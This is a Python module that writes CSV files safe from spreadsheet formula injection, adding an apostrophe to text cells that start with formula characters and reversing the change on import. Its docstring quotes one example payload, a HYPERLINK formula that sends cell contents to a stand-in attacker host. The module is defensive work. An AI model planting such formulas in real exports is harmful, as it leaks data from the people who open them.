"""CSV that spreadsheets open as data, never as formulas (OWASP "CSV Injection").

Names, emails and addresses come from API clients, and a spreadsheet treats a cell that starts
with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula: a first name
`=HYPERLINK("http://evil.example/?x="&A1,"Click")` would run on a staff member's machine. Every
text cell that starts so is written with a leading apostrophe, which spreadsheets show as text
(and hide). Numbers are written as numbers, so a negative total stays a number. A text cell
that already starts with apostrophes followed by such a character gets one more, so
`restore_cell` reverses the mapping exactly and the importer reads an export back unchanged.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def safe_cell(value: Any) -> Any:
    """The cell as written: a text cell that a spreadsheet would evaluate gets a `'` prefix."""
    if isinstance(value, str) and value.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def restore_cell(value: str) -> str:
    """A cell as read back: the inverse of `safe_cell` for text."""
    if value.startswith(QUOTE) and value.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return value[1:]
    return value


class SafeWriter:
    """`csv.writer` whose every row goes through `safe_cell` (the one way orderhub writes CSV)."""

    def __init__(self, sink: IO[str]) -> None:
        self._writer = csv.writer(sink)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
